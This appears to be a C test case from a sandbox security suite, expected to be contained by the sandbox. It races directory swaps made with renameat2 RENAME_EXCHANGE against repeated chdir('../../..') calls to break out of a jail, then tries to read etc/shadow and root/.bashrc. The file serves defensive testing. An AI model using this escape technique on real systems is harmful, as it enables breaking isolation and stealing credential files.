// expect: AC
// must-not: escape by renaming folders under a walking process
// quick: no
#include "hostile.h"
#include <pthread.h>
static volatile int done;
static void *swap(void *nothing) {
    while (!done)
        renameat2(AT_FDCWD, "/tmp/a/b", AT_FDCWD, "/tmp/c", RENAME_EXCHANGE);
    return nothing;
}
int main(void) {
    pthread_t thread;
    mkdir("/tmp/a", 0700);
    mkdir("/tmp/a/b", 0700);
    mkdir("/tmp/c", 0700);
    symlink("/", "/tmp/a/link");
    pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < 3000; i++)
        if (chdir("/tmp/a/b") == 0 && chdir("../../..") == 0) {
            loot("etc/shadow");
            loot("root/.bashrc");
        }
    done = 1;
    return answer();
}
